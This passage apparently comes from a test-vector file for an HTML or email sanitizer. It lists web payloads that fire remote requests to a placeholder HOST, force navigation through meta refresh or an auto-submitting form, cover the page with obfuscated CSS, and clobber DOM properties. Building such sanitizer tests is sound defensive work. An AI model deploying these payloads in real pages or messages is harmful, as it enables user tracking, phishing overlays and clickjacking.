    _request("stylesheet-alternate", "<link rel='alternate stylesheet' title=x href='http://HOST/a.css'>"),
    _request("icon", "<link rel='icon' href='http://HOST/a.ico'><link rel=apple-touch-icon href='http://HOST/b.png'>"),
    _request("preload", "<link rel=preload as=image href='http://HOST/a.png'>"),
    _request("preload-srcset", "<link rel=preload as=image imagesrcset='http://HOST/a.png 1x' href=x>"),
    _request("module-preload", "<link rel=modulepreload href='http://HOST/a.js'>"),
    _request("prefetch", "<link rel=prefetch href='http://HOST/a.html'>"),
    _request("prerender", "<link rel=prerender href='http://HOST/a.html'>"),
    _request("preconnect", "<link rel=preconnect href='https://HOST/'>"),
    _request(
        "dns-prefetch", "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href='//HOST/'>"
    ),
    _request("manifest", "<link rel=manifest href='http://HOST/a.json'>"),
    _request("pingback", "<link rel=pingback href='http://HOST/'><link rel=next href='http://HOST/2'>"),
    _request("speculation", "<script type=speculationrules>{'prefetch':[{'urls':['http://HOST/']}]}</script>"),
    _request("import-map", "<script type=importmap>{'imports':{'x':'http://HOST/x.js'}}</script>"),
    _request("body-background", "<body background='http://HOST/a.png'>x"),
    _request("body-background-style", "<body style='background:url(http://HOST/a.png)'>x"),
    _request("iframe-src", "<iframe src='http://HOST/a.html'></iframe>"),
    _request("iframe-srcdoc-img", "<iframe srcdoc='<img src=http://HOST/a.png>'></iframe>"),
    _request("frame-src", "<frameset><frame src='http://HOST/a.html'></frameset>"),
    _request(
        "fenced-frame",
        "<fencedframe src='https://HOST/'></fencedframe><portal src='https://HOST/'></portal><img src='http://HOST/x'>",
    ),
    _request("object-remote", "<object data='http://HOST/a.png'></object>"),
    _request("object-codebase", "<object codebase='http://HOST/' data='a.png' classid='x'></object>"),
    _request("embed-remote", "<embed src='http://HOST/a.png'>"),
    _request("applet-remote", "<applet codebase='http://HOST/' code=a.class archive='http://HOST/a.jar'></applet>"),
    _request("input-image", "<input type=image src='http://HOST/a.png'>"),
    _request("video-track", "<video controls><track default src='http://HOST/a.vtt'></video>"),
    _request(
        "bgsound",
        "<bgsound src='http://HOST/a.wav'><img dynsrc='http://HOST/b' lowsrc='http://HOST/c' longdesc='http://HOST/d'>",
    ),
    _request("template-shadow", "<p><template shadowrootmode=open><img src='http://HOST/a.png'></template></p>"),
    _request("noscript-img", "<noscript><img src='http://HOST/a.png'></noscript>"),
    _request(
        "attribution",
        "<img attributionsrc='https://HOST/a' src='http://HOST/b.png'><a attributionsrc='https://HOST/c' href='https://example.org/'>x</a>",
    ),
    _request("ping", "<a ping='http://HOST/p' href='https://example.org/'>x</a>"),
    _request(
        "cite",
        "<blockquote cite='http://HOST/q'>x</blockquote><q cite='http://HOST/q'>x</q><ins cite='http://HOST/q'>x</ins>",
    ),
    _request(
        "profile",
        "<head profile='http://HOST/p'></head><p itemscope itemtype='http://HOST/t' itemid='http://HOST/i'>x</p>",
    ),
    _request("usemap", "<img usemap='http://HOST/m' longdesc='http://HOST/l' lowsrc='http://HOST/s' crossorigin>"),
    _request("html-manifest", "<html manifest='http://HOST/m.appcache'><p>x</p></html>"),
    _request(
        "xml-stylesheet", "<?xml-stylesheet href='http://HOST/a.xsl' type='text/xsl'?><p xml:base='http://HOST/'>x</p>"
    ),
    _request(
        "report",
        "<meta http-equiv='Content-Security-Policy' content=\"img-src 'none'; report-uri http://HOST/r\"><img src='x.png'>",
    ),
    _request("base-and-relative", "<base href='http://HOST/'><img src='a.png'>"),
    _request("base-and-style", "<base href='http://HOST/'><p style='background:url(a.png)'>x</p>"),
    _request(
        "math-image", "<math><mglyph src='http://HOST/a.png'/><mtext><img src='http://HOST/b.png'></mtext></math>"
    ),
    _request(
        "custom-namespaces",
        "<v:image src='http://HOST/a.png'/><o:p><v:fill src='http://HOST/b.png'/></o:p><v:rect style='background:url(http://HOST/c)'>x</v:rect>",
    ),
    _request(
        "model",
        "<model><source src='http://HOST/a.usdz'></model><x-y src='http://HOST/b' background='http://HOST/c'>x</x-y>",
    ),
    _request("button-image", "<button style='background:url(http://HOST/a.png)'>x</button>"),
    _request("field-set", "<fieldset style='background:url(http://HOST/a.png)'><legend>x</legend></fieldset>"),
    _request(
        "every-other-attribute",
        "<p src='http://HOST/1' href='http://HOST/2' data='http://HOST/3' action='http://HOST/4' poster='http://HOST/5' formaction='http://HOST/6' code='http://HOST/7' icon='http://HOST/8' srcdoc='http://HOST/9'>x</p>",
    ),
)

NAVIGATIONS = (
    Vector("refresh", "<meta http-equiv=refresh content='0;url=http://HOST/'>", "navigate"),
    Vector("refresh-odd", "<meta HTTP-EQUIV='Refresh' CONTENT=\"0 , URL = 'http://HOST/' \">", "navigate"),
    Vector(
        "refresh-in-noscript", "<noscript><meta http-equiv=refresh content='0;url=http://HOST/'></noscript>", "navigate"
    ),
    Vector(
        "refresh-after-text", "<p>x</p><table><meta http-equiv=refresh content='0;http://HOST/'></table>", "navigate"
    ),
    Vector(
        "form-auto",
        "<form id=f action='http://HOST/'><input name=a autofocus onfocus='form.submit()'></form>",
        "navigate",
    ),
    Vector("form-button", "<form action='http://HOST/'><button>Go</button></form>", "navigate"),
    Vector(
        "form-button-alone",
        "<form id=g></form><input type=submit form=g formaction='http://HOST/' formtarget=_self>",
        "navigate",
    ),
    Vector(
        "form-label", "<form action='http://HOST/'><label for=b>x</label><input type=submit id=b></form>", "navigate"
    ),
    Vector("frame-inside", "<frameset><frame src='http://HOST/'></frameset>", "navigate"),
    Vector("link-same-window", "<a href='http://HOST/' target=_self>x</a>", "navigate"),
    Vector("link-top-window", "<a href='http://HOST/' target=_top rel=opener>x</a>", "navigate"),
    Vector("link-base-target", "<base target=_parent><a href='http://HOST/'>x</a>", "navigate"),
    Vector("link-download", "<a href='http://HOST/a.exe' download>x</a>", "navigate"),
    Vector("svg-link-away", "<svg><a href='http://HOST/'><text y=9>x</text></a></svg>", "navigate"),
    Vector("area-away", "<map name=w><area shape=default href='http://HOST/'></map><img usemap=#w>", "navigate"),
)

_SHEET = "width:100%;height:100%;background:#f00"
COVERS = (
    _cover("fixed", f"<div style='position:fixed;top:0;left:0;{_SHEET}'>x</div>"),
    _cover("fixed-important", f"<div style='position:fixed!important;inset:0;z-index:99;{_SHEET}'>x</div>"),
    _cover("fixed-escaped", f"<div style='p\\6fsition:f\\69xed;top:0;left:0;{_SHEET}'>x</div>"),
    _cover("fixed-comment", f"<div style='position/**/:/**/fixed;top:0;left:0;{_SHEET}'>x</div>"),
    _cover("fixed-variable", f"<div style='--p:fixed;position:var(--p);top:0;left:0;{_SHEET}'>x</div>"),
    _cover("fixed-by-sheet", f"<style>.c{{position:fixed;top:0;left:0;{_SHEET}}}</style><div class=c>x</div>"),
    _cover("fixed-link", f"<a href='https://example.org/' style='position:fixed;top:0;left:0;{_SHEET}'>x</a>"),
    _cover("fixed-image", f"<img src='cid:x' style='position:fixed;top:0;left:0;{_SHEET}'>"),
    _cover(
        "fixed-after-broken-text",
        f"<div style=\"font-family:'a;position:fixed;top:0;left:0;{_SHEET}\">x</div><div style='font-family:&quot;;position:fixed;top:0;left:0;{_SHEET}'>y</div>",
    ),
    _cover(
        "fixed-after-bracket",
        f"<div style='color:rgb(0;position:fixed;top:0;left:0;{_SHEET};)'>x</div><div style='}}position:fixed;{_SHEET}'>y</div><div style='x:y;position:fixed;top:0;{_SHEET}'>z</div>",
    ),
    _cover("absolute", "<div style='position:absolute;top:0;left:0;width:4000px;height:4000px;background:red'>x</div>"),
    _cover(
        "absolute-negative",
        "<div style='position:absolute;margin:-900px;width:4000px;height:4000px;background:red'>x</div>",
    ),
    _cover("sticky", "<div style='position:sticky;top:-500px;margin-top:-500px;height:2000px;background:red'>x</div>"),
    _cover("fixed-margin", "<div style='margin:-3000px;padding:3000px;position:fixed;background:red'>x</div>"),
    _cover(
        "dialog-shown",
        f"<dialog open style='position:fixed;margin:0;max-width:none;max-height:none;{_SHEET}'>x</dialog>",
    ),
    _cover(
        "popover-shown",
        f"<button popovertarget=pp>x</button><div id=pp popover style='margin:0;inset:0;{_SHEET}'>x</div>",
    ),
    _cover("marquee", f"<marquee style='position:fixed;top:0;left:0;{_SHEET}'>x</marquee>"),
    _cover("iframe-over", f"<iframe srcdoc=x style='position:fixed;top:0;left:0;{_SHEET}'></iframe>"),
    _cover("svg-over", f"<svg style='position:fixed;top:0;left:0;{_SHEET}'><rect width=4000 height=4000 /></svg>"),
    _cover(
        "anchored",
        f"<div style='position:fixed;position-anchor:--a;inset-area:all;top:anchor(top,0px);left:0;{_SHEET}'>x</div>",
    ),
)
# These stand in the flow: a container that clips holds them, but they are to stay in one that does not.
OVERFLOWS = (
    _cover("margin-top-negative", "<div style='margin-top:-300px;height:300px;background:red'>x</div>"),
    _cover(
        "margin-shorthand-negative",
        "<div style='margin:-300px 0 0 -300px;height:400px;width:900px;background:red'>x</div>",
    ),
    _cover("margin-of-table", "<table style='margin-top:-300px;height:300px;background:red'><tr><td>x</table>"),
    _cover("margin-exponent", "<div style='margin-top:-3e2px;height:300px;background:red'>x</div>"),
    _cover("margin-computed", "<div style='margin-top:calc(0px - 300px);height:300px;background:red'>x</div>"),
    _cover("margin-variable", "<div style='--m:-300px;margin-top:var(--m);height:300px;background:red'>x</div>"),
    _cover("moved", "<div style='transform:translate(-300px,-300px);height:600px;width:900px;background:red'>x</div>"),
    _cover("moved-by-property", "<div style='translate:0 -300px;height:300px;background:red'>x</div>"),
    _cover(
        "scaled",
        "<div style='scale:9;height:60px;background:red'>x</div><div style='zoom:9;transform:scale(9)'>y</div>",
    ),
    _cover(
        "relative",
        "<div style='position:relative;top:-300px;left:-300px;height:600px;width:900px;background:red'>x</div>",
    ),
    _cover(
        "lifted-in-line",
        "<span style='position:relative;bottom:300px;background:red'>a message that says who sent it</span>",
    ),
    _cover("outline", "<div style='outline:300px solid red;height:9px'>x</div>"),
    _cover("shadow", "<div style='box-shadow:0 -300px 0 300px red;height:9px'>x</div>"),
    _cover("text-shadow", "<div style='text-shadow:0 -300px red;height:9px'>x</div>"),
    _cover("padding-in-line-exponent", "<br><span style='padding:3e2px;background:red'>x</span>"),
    _cover("line-without-height", "<div style='line-height:0;font-size:900px;background:red'>\u2588\u2588</div>"),
    _cover("font-exponent", "<div style='line-height:0;font-size:9e2px'>\u2588\u2588</div>"),
    _cover("font-short-exponent", "<div style='font:9e2px/0 serif'>\u2588\u2588</div>"),
    _cover("font-long-fraction", "<div style='line-height:0;font-size:00900.0px'>\u2588\u2588</div>"),
    _cover("font-nested", "<b style='font-size:300%'>" * 6 + "<i style='line-height:0'>\u2588</i>"),
    _cover(
        "vertical-align",
        "<div style='height:9px'><span style='vertical-align:300px;line-height:0;background:red'>x</span></div>",
    ),
    _cover("window-units", "<div style='float:right;width:100dvw;height:100svh;background:red'>x</div>"),
    _cover("container-units", "<div style='float:right;width:100cqw;width:9e9px;width:100lvi;background:red'>x</div>"),
)
# What a plain box in the flow can do as well; only a container that clips holds it.
SPILLS = (
    _cover("padding-in-line", "<br><span style='padding:300px;background:red'>x</span>"),
    _cover("border-in-line", "<br><span style='border:300px solid red'>x</span>"),
    _cover(
        "font-size-7",
        "<font size=7 style='line-height:0'><big><big><big><big><big><big><big><big>\u2588</big></big></big></big></big></big></big></big></font>",
    ),
    _cover("float-wide", "<div style='float:right;width:2000px;height:40px;background:red'>x</div>"),
    _cover("right-to-left-wide", "<div dir=rtl><div style='width:2000px;background:red'>x</div></div>"),
    _cover("float-tall", "<div style='height:1px'><div style='float:left;height:2000px;background:red'>x</div></div>"),
    _cover(
        "attributes-wide",
        "<table width=9999 height=9999 bgcolor=red align=right><tr><td>x</table><img width=9999 height=9999 align=right border=999>",
    ),
)

CLOBBERS = (
    Vector(
        "id-of-method",
        "<img id=getElementById><img name=getElementById><img id=createElement name=createElement>",
        "clobber",
    ),
    Vector("id-of-setting", "<a id=config><a id=config name=url href='cid:HOST'></a>", "clobber"),
    Vector(
        "form-of-properties",
        "<form name=config><input id=attributes><input name=parentNode><input name=nodeName></form>",
        "clobber",
    ),
    Vector("cookie", "<img name=cookie><form id=cookie></form><embed name=cookie>", "clobber"),
    Vector("body-name", "<img name=body><form name=body><img name=currentScript></form>", "clobber"),
    Vector(
        "frame-name", "<iframe name=config srcdoc='<a id=url>x</a>'></iframe><object id=config></object>", "clobber"
    ),
    Vector("anchor-twice", "<a id=config>x</a><a id=config name=toString>y</a><p id=config>z</p>", "clobber"),
    Vector(
        "fragment",
        "<a name=top href=#top>x</a><h1 id=mail>x</h1><p class='mail admin' slot=config part=config>y</p>",
        "clobber",
    ),
)

VECTORS: tuple[Vector, ...] = (
    *PLAIN, *HANDLERS, *SCHEMES, *SVG, *MUTATIONS, *ENCODINGS, *REMOTE, *REQUESTS, *NAVIGATIONS, *COVERS, *OVERFLOWS, *SPILLS, *CLOBBERS,
)  # fmt: skip
"""A vector's number is its place here."""
